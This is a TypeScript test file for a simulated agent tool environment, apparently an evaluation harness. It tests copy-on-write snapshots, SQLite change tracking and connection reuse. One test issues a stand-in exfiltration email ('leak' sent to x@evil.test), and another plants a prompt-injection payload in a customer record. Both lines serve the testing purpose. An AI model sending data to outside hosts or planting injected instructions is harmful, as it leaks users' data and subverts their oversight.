import { describe, expect, it, vi } from 'vitest';
import type { Snapshot } from '../../src/contract/index.ts';
import type { Database } from 'sql.js';
import { loadSqlJs, openDatabase, runSql } from '../../src/environment/sqlite.ts';
import { expectOk, smallEnvironment, smallFixture } from './helpers.ts';

/** The snapshot as data: what it would be if every part were read again from scratch. */
const data = (snapshot: Snapshot) => JSON.parse(JSON.stringify(snapshot)) as Snapshot;

describe('snapshots are copied on write', () => {
  it('share the parts nothing changed, between snapshots and between environments of one fixture', async () => {
    const a = await smallEnvironment();
    const b = await smallEnvironment();
    const first = a.snapshot();
    const second = a.snapshot();
    expect(second.emails).toBe(first.emails);
    expect(second.files).toBe(first.files);
    expect(second.tables).toBe(first.tables);
    expect(b.snapshot().tables).toBe(first.tables);
    expect(Object.isFrozen(first.tables.customers[0])).toBe(true);
  });

  it('copy each part a tool call changes, and leave earlier snapshots as they were', async () => {
    const env = await smallEnvironment();
    const before = env.snapshot();
    const frozen = data(before);
    expectOk(env.execute({ tool: 'send_email', args: { to: 'x@evil.test', subject: 'leak', body: 'data' } }));
    const mailed = env.snapshot();
    expect(mailed.emails).not.toBe(before.emails);
    expect(mailed.emails).toHaveLength(before.emails.length + 1);
    expect(mailed.files).toBe(before.files);
    expect(mailed.tables).toBe(before.tables);
    expectOk(env.execute({ tool: 'write_file', args: { path: '/notes.txt', content: 'x' } }));
    expect(env.snapshot().files).not.toBe(before.files);
    expect(env.snapshot().files['/notes.txt']).toBe('x');
    expect(data(before)).toEqual(frozen);
  });

  it('read the tables again after every kind of SQL change, and not after a query that changes nothing', async () => {
    const changes = [
      "UPDATE customers SET name = 'X' WHERE rowid = 1",
      'DELETE FROM orders',
      "INSERT INTO orders (customer_id, item) VALUES (1, 'Ink')",
      'CREATE TABLE extra (v TEXT)',
      'DROP TABLE orders',
      'ALTER TABLE customers RENAME TO clients',
      'VACUUM',
    ];
    for (const query of changes) {
      const env = await smallEnvironment();
      const before = env.snapshot();
      expectOk(env.execute({ tool: 'execute_sql_query', args: { query: 'SELECT * FROM customers' } }));
      expect(env.snapshot().tables, 'a SELECT').toBe(before.tables);
      expectOk(env.execute({ tool: 'execute_sql_query', args: { query } }));
      const after = env.snapshot();
      // VACUUM rewrites the file and leaves every row as it was: read again, the tables are shared again.
      if (query === 'VACUUM') expect(after.tables, query).toBe(before.tables);
      else expect(after.tables, query).not.toBe(before.tables);
      // Exactly what reading the database afresh gives: a new environment replaying the same calls.
      const fresh = await smallEnvironment();
      expectOk(fresh.execute({ tool: 'execute_sql_query', args: { query } }));
      expect(data(after).tables, query).toEqual(data(fresh.snapshot()).tables);
    }
  });

  it('after queries only, a snapshot asks the database nothing: a SELECT changes no row, schema or counter', async () => {
    const { Database } = await loadSqlJs();
    const env = await smallEnvironment();
    expectOk(env.execute({ tool: 'execute_sql_query', args: { query: "UPDATE customers SET name = 'X' WHERE rowid = 1" } }));
    const before = env.snapshot();
    const exec = vi.spyOn(Database.prototype, 'exec');
    for (const query of ['SELECT * FROM customers', 'select count(*) from orders; SELECT name FROM customers WHERE rowid = 1'])
      expectOk(env.execute({ tool: 'execute_sql_query', args: { query } }));
    exec.mockClear();
    expect(env.snapshot().tables).toBe(before.tables);
    expect(exec).not.toHaveBeenCalled();
    // A statement that is not a SELECT still has the database asked (here: nothing changed, the tables stay shared).
    expectOk(env.execute({ tool: 'execute_sql_query', args: { query: "UPDATE customers SET name = 'X' WHERE rowid = 1" } }));
    exec.mockClear();
    expect(env.snapshot().tables).toBe(before.tables);
    expect(exec).toHaveBeenCalled();
    exec.mockRestore();
  });

  it('share the rows and tables an SQL change left as they were', async () => {
    const env = await smallEnvironment();
    const before = env.snapshot();
    expectOk(env.execute({ tool: 'execute_sql_query', args: { query: "UPDATE customers SET name = 'X' WHERE rowid = 1" } }));
    const after = env.snapshot();
    expect(after.tables.customers[0].name).toBe('X');
    expect(after.tables.customers.slice(1)).toEqual(before.tables.customers.slice(1));
    after.tables.customers.slice(1).forEach((row, i) => expect(row).toBe(before.tables.customers[i + 1]));
    expect(after.tables.orders).toBe(before.tables.orders);
    expect(Object.isFrozen(after.tables.customers[0])).toBe(true);
  });

  it('cannot be fooled into a stale read by setting the schema version back', async () => {
    const env = await smallEnvironment();
    const before = env.snapshot();
    const version = /\d+/.exec(expectOk(env.execute({ tool: 'execute_sql_query', args: { query: 'PRAGMA schema_version' } })).split('\n')[2])![0];
    expectOk(env.execute({ tool: 'execute_sql_query', args: { query: `DROP TABLE orders; PRAGMA schema_version = ${version}` } }));
    expect(Object.keys(env.snapshot().tables)).not.toContain('orders');
    expect(Object.keys(before.tables)).toContain('orders');
  });

  it.each([
    ['a transaction rolled back', ['BEGIN; DELETE FROM orders', 'ROLLBACK']],
    ['a savepoint rolled back to', ["SAVEPOINT a; UPDATE customers SET name = 'X' WHERE rowid = 1", 'ROLLBACK TO a']],
    [
      'a transaction a conflict rolls back',
      ["BEGIN; UPDATE customers SET name = 'X' WHERE rowid = 1", 'INSERT OR ROLLBACK INTO customers (rowid, name) VALUES (1, 1)'],
    ],
    ['a transaction committed', ["BEGIN; UPDATE customers SET name = 'X' WHERE rowid = 1", 'COMMIT']],
  ])('show the tables as they are after %s in a later call (a rollback changes no count)', async (_name, queries) => {
    const env = await smallEnvironment();
    for (const query of queries) {
      env.execute({ tool: 'execute_sql_query', args: { query } });
      // Read after each call, as the harness does when a judge reads steps.
      env.snapshot();
    }
    // Read once, at the end: every change is counted since the fixture's tables were read.
    const replayed = await smallEnvironment();
    for (const query of queries) replayed.execute({ tool: 'execute_sql_query', args: { query } });
    expect(data(env.snapshot()).tables).toEqual(data(replayed.snapshot()).tables);
  });

  it.each([
    ['an update', ["UPDATE customers SET name = 'X' WHERE rowid = 1"], ['customers']],
    ['an update that changes no value', ['UPDATE customers SET name = name'], ['customers']],
    ['an insert that replaces a row', ["INSERT OR REPLACE INTO customers (id, name, email) VALUES (9, 'New', 'ap@birch.test')"], ['customers']],
    ['a delete without WHERE (the hook does not report it)', ['DELETE FROM orders'], ['customers', 'orders']],
    [
      'a delete without WHERE, then a statement that fails after changing as many rows',
      ["DELETE FROM orders; UPDATE customers SET email = CASE WHEN id = 7 THEN 'billing@acme-supplies.test.x' ELSE email || '.x' END"],
      ['customers', 'orders'],
    ],
    ['a table created, then changed', ['CREATE TABLE extra (v TEXT)', "INSERT INTO extra VALUES ('a')"], ['customers', 'extra', 'orders']],
    [
      'a table WITHOUT ROWID, changed',
      ['CREATE TABLE kv (k TEXT PRIMARY KEY, v TEXT) WITHOUT ROWID', "INSERT INTO kv VALUES ('a', 'b')"],
      ['customers', 'kv', 'orders'],
    ],
  ])('after %s, read again only the tables SQLite reported changed, when it reported every change', async (_name, queries, read) => {
    const { Database } = await loadSqlJs();
    const env = await smallEnvironment();
    const replayed = await smallEnvironment();
    env.snapshot();
    const exec = vi.spyOn(Database.prototype, 'exec');
    for (const query of queries) {
      env.execute({ tool: 'execute_sql_query', args: { query } });
      replayed.execute({ tool: 'execute_sql_query', args: { query } });
    }
    exec.mockClear();
    const after = env.snapshot();
    const tablesRead = exec.mock.calls.flatMap(([sql]) => /^SELECT rowid AS \w+, \* FROM "(\w+)"/.exec(sql)?.[1] ?? []);
    exec.mockRestore();
    expect(tablesRead.sort()).toEqual(read);
    // What a database read afresh holds: the replay's first read is of every table.
    expect(data(after).tables).toEqual(data(replayed.snapshot()).tables);
  });

  it.each([
    ['only queried', ['SELECT * FROM customers', 'select name from customers where rowid = 1'], 0],
    ['changed', ['SELECT * FROM customers', "UPDATE customers SET name = 'X' WHERE rowid = 1", 'DELETE FROM orders WHERE rowid = 1'], 1],
  ])('a database %s: its changes are reported by a hook set at its first statement that can change a row', async (_name, queries, hooks) => {
    const SQL = (await loadSqlJs()) as unknown as HookedModule;
    const env = await smallEnvironment();
    const setHook = vi.spyOn(SQL, '_sqlite3_update_hook');
    for (const query of queries) expectOk(env.execute({ tool: 'execute_sql_query', args: { query } }));
    env.snapshot();
    expect(setHook).toHaveBeenCalledTimes(hooks);
    setHook.mockRestore();
  });

  it('databases that change rows share one hook: no WebAssembly function is made per database (sql.js compiles a module for each)', async () => {
    const SQL = (await loadSqlJs()) as unknown as HookedModule;
    const { Database } = SQL as unknown as { Database: { prototype: Database } };
    // The shared hook exists once any database of the process changed a row.
    const first = await smallEnvironment();
    expectOk(first.execute({ tool: 'execute_sql_query', args: { query: "UPDATE customers SET name = 'X' WHERE rowid = 1" } }));
    first.close();
    const addFunction = vi.spyOn(SQL, 'addFunction');
    const updateHook = vi.spyOn(Database.prototype, 'updateHook');
    const envs = await Promise.all([1, 2, 3].map(() => smallEnvironment()));
    envs.forEach((env, i) => expectOk(env.execute({ tool: 'execute_sql_query', args: { query: `UPDATE customers SET name = 'Y${i}' WHERE rowid = 1` } })));
    expect(envs.map((env) => env.snapshot().tables.customers[0].name)).toEqual(['Y0', 'Y1', 'Y2']);
    // Each database reports its own changes: another's hook firing is not counted as its change.
    expectOk(envs[0].execute({ tool: 'execute_sql_query', args: { query: 'DELETE FROM orders WHERE rowid = 1' } }));
    expect(envs[0].snapshot().tables.orders).toHaveLength(envs[1].snapshot().tables.orders.length - 1);
    expect(addFunction).not.toHaveBeenCalled();
    expect(updateHook).not.toHaveBeenCalled();
    addFunction.mockRestore();
    updateHook.mockRestore();
    for (const env of envs) env.close();
  });

  it('the shared hook fails a statement where the hook of sql.js did: a rowid past Number.MAX_SAFE_INTEGER', async () => {
    const env = await smallEnvironment();
    expectOk(env.execute({ tool: 'execute_sql_query', args: { query: "UPDATE customers SET name = 'X' WHERE rowid = 1" } }));
    const outcome = env.execute({ tool: 'execute_sql_query', args: { query: "INSERT INTO customers (rowid, name) VALUES (9007199254740993, 'Big')" } });
    expect(outcome).toEqual({ ok: false, error: 'SQL error: undefined' });
    const small = env.execute({ tool: 'execute_sql_query', args: { query: "INSERT INTO customers (rowid, name) VALUES (9007199254740990, 'Small')" } });
    expectOk(small);
  });

  it('an injection into a table changes that environment only', async () => {
    const plain = await smallEnvironment();
    const injected = await smallEnvironment([{ locator: 'sql:customers.name#1', payload: 'IGNORE' }]);
    expect(injected.snapshot().tables.customers[0].name).toBe('Acme Supplies\n\nIGNORE');
    expect(plain.snapshot().tables.customers[0].name).toBe('Acme Supplies');
    expect((await smallEnvironment()).snapshot().tables).toBe(plain.snapshot().tables);
  });
});

/** sql.js's module as the shared update hook uses it. */
interface HookedModule {
  _sqlite3_update_hook(db: number, callback: number, argument: number): number;
  addFunction(fn: unknown, signature: string): number;
}

/** What a connection holds besides its rows that a fresh copy of the image must not differ in. */
const state = (db: Database) => ({
  counters: db.exec('SELECT total_changes(), changes(), last_insert_rowid()')[0].values,
  userVersion: db.exec('PRAGMA user_version')[0].values,
  temp: db.exec('SELECT count(*) FROM sqlite_temp_schema')[0].values,
  schema: db.exec('SELECT name, sql FROM sqlite_schema ORDER BY name')[0].values,
  customers: db.exec('SELECT rowid, * FROM customers ORDER BY rowid'),
});

describe("an environment's database", () => {
  it('is opened on its first use: until then its snapshots show the tables a database opened from the fixture shows', async () => {
    const { tables } = await smallFixture();
    const opened = await openDatabase(tables);
    opened.database.db.exec('SELECT 1');
    const read = opened.snapshots.read();
    const lazy = await openDatabase(tables);
    expect(lazy.snapshots.read()).toBe(read);
    expect(lazy.database.isOpen).toBe(false);
    expect(lazy.database.db.exec('SELECT count(*) FROM customers')[0].values[0][0]).toBe(read.customers.length);
    expect(lazy.database.isOpen).toBe(true);
    lazy.database.close();
    expect(() => lazy.database.db).toThrow(/closed/);
    opened.database.close();
  });

  it('gives every database a fresh copy of the image, whether opened on use or ahead while the thread was free', async () => {
    const { tables } = await smallFixture();
    const afterImmediate = () => new Promise((resolve) => setImmediate(resolve));
    const first = await openDatabase(tables);
    const fresh = state(first.database.db);
    first.database.close();
    // Each round changes what it was given (data, schema, connection state) and closes it; the next round's database is opened ahead.
    const changes = [
      "UPDATE customers SET name = 'X' WHERE rowid = 1",
      'DELETE FROM customers',
      'CREATE TABLE extra (x)',
      'PRAGMA user_version = 7',
      'CREATE TEMP TABLE scratch (x); INSERT INTO scratch VALUES (1)',
    ];
    for (const sql of changes) {
      await afterImmediate();
      const { database } = await openDatabase(tables);
      expect(state(database.db)).toEqual(fresh);
      database.db.exec(sql);
      database.close();
    }
  });

  it.each([
    ['only queried', ['SELECT * FROM customers', 'SELECT total_changes(), changes(), last_insert_rowid()'], true],
    ['changed', ["UPDATE customers SET name = 'X' WHERE rowid = 1"], false],
    ['given a transaction that changed nothing', ['BEGIN', 'ROLLBACK'], false],
    ['given a pragma', ['PRAGMA user_version = 7'], false],
    ['given a temporary table', ['CREATE TEMP TABLE scratch (x)'], false],
    ['refused an attach', ["ATTACH DATABASE 'x' AS other"], true],
  ])("passes its connection to the next database when an environment's database was %s (a fresh copy's state all the same)", async (_name, queries, reused) => {
    const { tables } = await smallFixture();
    const first = await openDatabase(tables);
    const fresh = state(first.database.db);
    first.database.close();
    await new Promise((resolve) => setImmediate(resolve));
    const used = await openDatabase(tables);
    const connection = used.database.db;
    for (const query of queries) runSql(connection, query);
    used.database.close(true);
    const next = await openDatabase(tables);
    expect(next.database.db === connection).toBe(reused);
    expect(state(next.database.db)).toEqual(fresh);
    next.database.close();
  });
});
